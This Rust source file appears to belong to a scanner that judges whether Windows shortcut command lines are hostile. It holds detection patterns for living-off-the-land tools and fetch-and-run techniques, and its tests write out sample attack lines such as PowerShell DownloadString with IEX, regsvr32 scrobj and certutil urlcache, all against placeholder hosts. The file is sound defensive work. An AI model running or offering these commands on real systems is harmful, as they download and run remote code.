//! Command lines: whether they run an interpreter, and whether what they have it do is something
//! that no honest shortcut does.

use crate::sort::Sort;

/// Programs of Windows that run what they are told, rather than something of their own.
const INTERPRETERS: [&str; 20] = [
    "cmd",
    "command",
    "powershell",
    "powershell_ise",
    "pwsh",
    "wscript",
    "cscript",
    "mshta",
    "rundll32",
    "regsvr32",
    "msiexec",
    "certutil",
    "bitsadmin",
    "forfiles",
    "pcalua",
    "conhost",
    "wmic",
    "msbuild",
    "installutil",
    "ssh",
];

/// Endings of files that are no libraries, which somebody loads as one nevertheless.
const NO_LIBRARIES: [&str; 13] = [
    "dat", "tmp", "bin", "db", "txt", "log", "jpg", "png", "gif", "ini", "pdf", "doc", "docx",
];

/// From so many signs on that mean nothing between letters, somebody hid a command.
const HIDING_MIN: usize = 5;

/// Fewest letters of an encoded command: shorter ones say too little to matter.
const ENCODED_LETTERS_MIN: usize = 32;

/// The program that `path` names, in lower case, without folder and `.exe`.
pub(crate) fn program(path: &str) -> String {
    let last = path
        .trim_matches(['"', '\'', ' '])
        .rsplit(['\\', '/', ':'])
        .next();
    let last = last.unwrap_or_default().to_ascii_lowercase();
    let stem = last
        .strip_suffix(".exe")
        .or_else(|| last.strip_suffix(".com"));
    stem.unwrap_or(&last).to_owned()
}

/// The interpreter that `path` names.
pub(crate) fn interpreter(path: &str) -> Option<&'static str> {
    let program = program(path);
    INTERPRETERS.into_iter().find(|name| *name == program)
}

/// A command line taken apart.
pub(crate) struct Command {
    /// In lower case, without the signs that the command interpreter drops.
    line: String,
    words: Vec<String>,
    /// Whether it names a script or program by a path without a drive.
    beside: bool,
    programs: Vec<String>,
    hiding: usize,
}

impl Command {
    /// Of a program and its arguments.
    pub(crate) fn new(target: &str, arguments: &str) -> Self {
        let letters: Vec<char> = arguments.chars().collect();
        let hiding = letters
            .windows(3)
            .filter(|three| {
                matches!(three, [a, '^' | '"' | '`', b] if a.is_ascii_alphabetic() && b.is_ascii_alphabetic())
            })
            .count()
            .saturating_add(pieces(arguments));
        let line = arguments.to_ascii_lowercase().replace(['^', '`'], "");
        let (words, beside) = words(&line);
        let programs = [target]
            .into_iter()
            .chain(words.iter().map(String::as_str))
            .map(program)
            .collect();
        Self {
            line,
            words,
            beside,
            programs,
            hiding,
        }
    }

    /// Why no honest shortcut has this command.
    pub(crate) fn hostile(&self) -> Option<&'static str> {
        self.fetching()
            .or_else(|| self.decoding())
            .or_else(|| self.hidden())
            .or_else(|| self.runs_medium())
    }

    /// Whether it runs a script or program by a path without a drive.
    pub(crate) fn runs_beside(&self) -> bool {
        self.beside
    }

    fn runs(&self, names: &[&str]) -> bool {
        self.programs
            .iter()
            .any(|program| names.contains(&program.as_str()))
    }

    fn holds(&self, parts: &[&str]) -> bool {
        parts.iter().any(|part| self.line.contains(part))
    }

    fn fetching(&self) -> Option<&'static str> {
        let web = self.holds(&["http:", "https:", "ftp:"]);
        let powershell = self.runs(&["powershell", "pwsh"]);
        let fetches = self.holds(&[
            "downloadstring",
            "downloadfile",
            "downloaddata",
            "invoke-webrequest",
            "invoke-restmethod",
            "start-bitstransfer",
            "net.webclient",
        ]) || self
            .words
            .iter()
            .any(|word| matches!(word.as_str(), "iwr" | "irm"));
        let chained = self.holds(&["&", "|"]);
        let fetched = (powershell && fetches)
            || (web && self.runs(&["mshta", "msiexec", "regsvr32", "bitsadmin"]))
            || (web && self.runs(&["wmic"]) && self.holds(&["/format:"]))
            || (web && chained && self.runs(&["curl", "wget"]))
            || (self.runs(&["certutil"]) && self.holds(&["urlcache", "verifyctl"]));
        fetched.then_some("its command fetches something from the network and runs or keeps it")
    }

    fn decoding(&self) -> Option<&'static str> {
        let encoded = self.words.windows(2).any(|two| {
            let [option, value] = two else { return false };
            let name = option.strip_prefix(['-', '/']).unwrap_or_default();
            !name.is_empty()
                && ("encodedcommand".starts_with(name) || name == "ec")
                && ENCODED_LETTERS_MIN <= value.len()
                && value
                    .bytes()
                    .all(|letter| letter.is_ascii_alphanumeric() || b"+/=".contains(&letter))
        });
        let powershell = self.runs(&["powershell", "pwsh"]);
        let evaluates = self.holds(&["frombase64string", "invoke-expression"])
            || self.words.iter().any(|word| word == "iex");
        let decodes = (powershell && (encoded || evaluates))
            || (self.runs(&["certutil"]) && self.holds(&["-decode", "/decode"]))
            || (self.runs(&["mshta", "rundll32"]) && self.holds(&["javascript:", "vbscript:"]))
            || (self.runs(&["regsvr32"]) && self.holds(&["scrobj"]));
        // What is behind the end of a shortcut is cut out of it by one of these.
        let reads_itself = self.holds(&[".lnk"])
            && self.runs(&["findstr", "more", "type", "get-content", "gc", "certutil"]);
        let reads_itself =
            reads_itself || (self.holds(&[".lnk"]) && self.holds(&["readallbytes", "readallline"]));
        (decodes || reads_itself)
            .then_some("its command decodes commands that a person cannot read and runs them")
    }

    fn hidden(&self) -> Option<&'static str> {
        let hides = HIDING_MIN <= self.hiding
            || (self.runs(&["conhost"]) && self.holds(&["--headless"]))
            || (self.runs(&["ssh"]) && self.holds(&["proxycommand", "localcommand"]))
            || (self.runs(&["forfiles"]) && self.runs(&["powershell", "pwsh", "mshta", "curl"]))
            || (self.is_windowless() && self.runs_beside());
        hides.then_some("its command hides what it runs")
    }

    /// PowerShell without a window.
    fn is_windowless(&self) -> bool {
        let powershell = self.runs(&["powershell", "pwsh"]);
        powershell
            && self.words.windows(2).any(|two| {
                let [option, value] = two else { return false };
                let name = option.strip_prefix(['-', '/']).unwrap_or_default();
                name.starts_with('w')
                    && "windowstyle".starts_with(name)
                    && matches!(value.as_str(), "hidden" | "h" | "hid" | "1")
            })
    }

    fn runs_medium(&self) -> Option<&'static str> {
        let opens_folder = self.holds(&["&"]) && self.runs(&["explorer"]);
        let bin = self.holds(&[
            "recycler\\",
            "$recycle.bin\\",
            "system volume information\\",
        ]);
        let engine = self.runs(&["wscript", "cscript"])
            && self.holds(&["//e:"])
            && !self
                .words
                .iter()
                .any(|word| Sort::of(&ending(word)) == Some(Sort::Script));
        let reads = self.line.match_indices('<').any(|(at, _)| {
            let before = self.line.get(..at).unwrap_or_default().trim_end();
            before.ends_with("cmd") || before.ends_with("cmd.exe")
        });
        let runs = (opens_folder && self.beside) || bin || engine || reads || self.loads_other();
        runs.then_some("its command runs something of the medium in a way that worms do")
    }

    /// A library beside it under another ending than a library's.
    fn loads_other(&self) -> bool {
        // The first program is the target, so what follows a program has its number as a word.
        self.programs.iter().enumerate().any(|(place, program)| {
            let mut behind = self.words.iter().skip(place);
            let library = behind.find(|word| !word.starts_with(['/', '-']));
            matches!(program.as_str(), "rundll32" | "regsvr32")
                && library.is_some_and(|library| {
                    is_relative(library) && NO_LIBRARIES.contains(&ending(library).as_str())
                })
        })
    }
}

/// The words of a line, and whether one of them is a script or program by a path without a
/// drive. A path that begins on a drive goes on behind blanks until its file's ending.
fn words(line: &str) -> (Vec<String>, bool) {
    let mut words = Vec::new();
    let mut beside = false;
    for piece in line.split(['"', '\'', '&', '|', '<', '>']) {
        let mut rooted = false;
        for word in piece.split(|letter: char| letter.is_whitespace() || "();,".contains(letter)) {
            if word.is_empty() {
                continue;
            }
            rooted |= is_rooted(word);
            beside |= !rooted && is_beside(word);
            rooted &= Sort::of(&ending(word)).is_none();
            words.push(word.to_owned());
        }
    }
    (words, beside)
}

/// How many letters are cut out of variables. Copies are named by parts of the date and time.
fn pieces(arguments: &str) -> usize {
    let lower = arguments.to_ascii_lowercase();
    let all = lower.matches(":~").count();
    let dated = lower
        .matches("date:~")
        .count()
        .saturating_add(lower.matches("time:~").count());
    all.saturating_sub(dated)
}

fn ending(word: &str) -> String {
    word.rsplit_once('.')
        .map(|(_, ending)| ending.to_owned())
        .unwrap_or_default()
}

fn is_explorer(word: &str) -> bool {
    program(word) == "explorer"
}

/// On a drive or server or in a folder of the system.
fn is_rooted(word: &str) -> bool {
    let beside = ["%cd%", "%~dp0"]
        .iter()
        .any(|start| word.starts_with(start));
    !beside && (word.contains(':') || word.starts_with("\\\\") || word.starts_with('%'))
}

/// Neither that nor an option.
fn is_relative(word: &str) -> bool {
    !is_rooted(word) && !word.starts_with('/')
}

/// A script or program that is not one of the system's.
fn is_beside(word: &str) -> bool {
    is_relative(word)
        && Sort::of(&ending(word)).is_some_and(Sort::is_run)
        && interpreter(word).is_none()
        && !is_explorer(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn interpreters_are_known_by_their_file() {
        assert_eq!(interpreter(r"C:\Windows\System32\CMD.EXE"), Some("cmd"));
        assert_eq!(interpreter("\"powershell\""), Some("powershell"));
        assert_eq!(interpreter(r"C:\cmd\notepad.exe"), None);
        assert_eq!(interpreter(""), None);
    }

    #[test]
    fn commands_of_attackers_are_hostile() {
        let encoded = format!("-nop -EnC {}", "QUJD".repeat(8));
        for (target, arguments) in [
            ("cmd.exe", r"/c start a.vbs&start explorer docs&exit"),
            ("cmd.exe", r"/c explorer.exe docs & wscript x\y.js"),
            ("cmd.exe", "/R cmd<disk.bin"),
            ("cmd.exe", "/v /c p^o^w^e^r^shell -x"),
            (
                "cmd.exe",
                "/c set a=xyz&&%a:~1,1%%a:~2,1%%a:~0,1%%a:~1,1%%a:~0,1%",
            ),
            (
                "cmd.exe",
                "/c curl -o %temp%\\a https://a.example/b && %temp%\\a",
            ),
            ("cmd.exe", "/c findstr /b ABC report.lnk > %tmp%\\a.js"),
            ("powershell.exe", &encoded),
            (
                "powershell.exe",
                "IEX (New-Object Net.WebClient).DownloadString('http://a.example')",
            ),
            ("powershell.exe", "-c iwr https://a.example -o b"),
            ("powershell.exe", r"-w hidden -f .\a\b.ps1"),
            (
                "cmd.exe",
                "/c powershell -c [convert]::FromBase64String('a')",
            ),
            ("mshta.exe", "https://a.example/b.hta"),
            ("mshta", "vbscript:close"),
            ("msiexec", "/q /i http://a.example:8080/x"),
            ("regsvr32", "/s /u /i:http://a.example/b scrobj.dll"),
            ("certutil", "-urlcache -f http://a.example/b c"),
            ("certutil.exe", "-decode a b"),
            ("rundll32.exe", r"RECYCLER\x.dll,Run"),
            ("rundll32.exe", r"thumbs.db,Run"),
            ("cmd.exe", r"/c start rundll32 a\thumbs.db,Run"),
            ("wscript.exe", "//e:vbscript picture.jpg"),
            ("conhost.exe", "--headless cmd"),
            ("ssh.exe", "-o ProxyCommand=calc ."),
            ("forfiles.exe", "/p C:\\ /m x /c \"powershell x\""),
        ] {
            assert!(
                Command::new(target, arguments).hostile().is_some(),
                "{target} {arguments}"
            );
        }
    }

    #[test]
    fn commands_of_honest_shortcuts_are_not() {
        let short = format!("-enc {}", "A".repeat(ENCODED_LETTERS_MIN - 1));
        let few = format!("/c {}", "a^".repeat(HIDING_MIN - 1));
        for (target, arguments) in [
            ("cmd.exe", r"/k C:\Vendor\env.bat"),
            ("cmd.exe", "/c setup.bat"),
            (
                "cmd.exe",
                "/c \"C:\\Program Files (x86)\\a\\b.bat\" & explorer C:\\a",
            ),
            ("cmd.exe", r"/c start C:\app\a.exe & explorer C:\app"),
            ("cmd.exe", "/c start https://vendor.example/"),
            ("cmd.exe", &few),
            ("powershell.exe", &short),
            (
                "powershell.exe",
                "-NoExit -Command \"& 'C:\\Program Files\\Vendor\\Shell.ps1'\"",
            ),
            ("powershell.exe", r"-WindowStyle Hidden -File C:\it\a.ps1"),
            ("rundll32.exe", "shell32.dll,Control_RunDLL main.cpl"),
            (
                "rundll32.exe",
                "url.dll,FileProtocolHandler https://vendor.example/",
            ),
            ("rundll32.exe", r"C:\vendor\a.dat,Run"),
            ("msiexec.exe", "/i setup.msi"),
            ("wscript.exe", r"C:\vendor\a.vbs"),
            ("wscript.exe", r"//e:vbscript a.vbs"),
            ("forfiles.exe", "/p logs /d -30 /c \"cmd /c del @path\""),
            (
                "cmd.exe",
                "/c copy a b%date:~0,4%%date:~5,2%%date:~8,2%%time:~0,2%%time:~3,2%%time:~6,2%",
            ),
            ("explorer.exe", "/e,."),
            ("cmd.exe", ""),
        ] {
            assert_eq!(
                Command::new(target, arguments).hostile(),
                None,
                "{target} {arguments}"
            );
        }
    }

    #[test]
    fn what_is_beside_a_shortcut_is_told() {
        assert!(Command::new("cmd", r"/c tools\a.bat").runs_beside());
        assert!(!Command::new("cmd", r"/c C:\tools\a.bat").runs_beside());
        assert!(Command::new("cmd", r"/c C:\a.exe \b.bat").runs_beside());
        assert!(Command::new("cmd", r"/c %cd%\b.bat").runs_beside());
        assert!(
            !Command::new("cmd", r#"/k ""C:\Program Files (x86)\a\b.bat"" amd64"#).runs_beside()
        );
        assert!(!Command::new("cmd", "/c cmd.exe explorer.exe").runs_beside());
    }
}
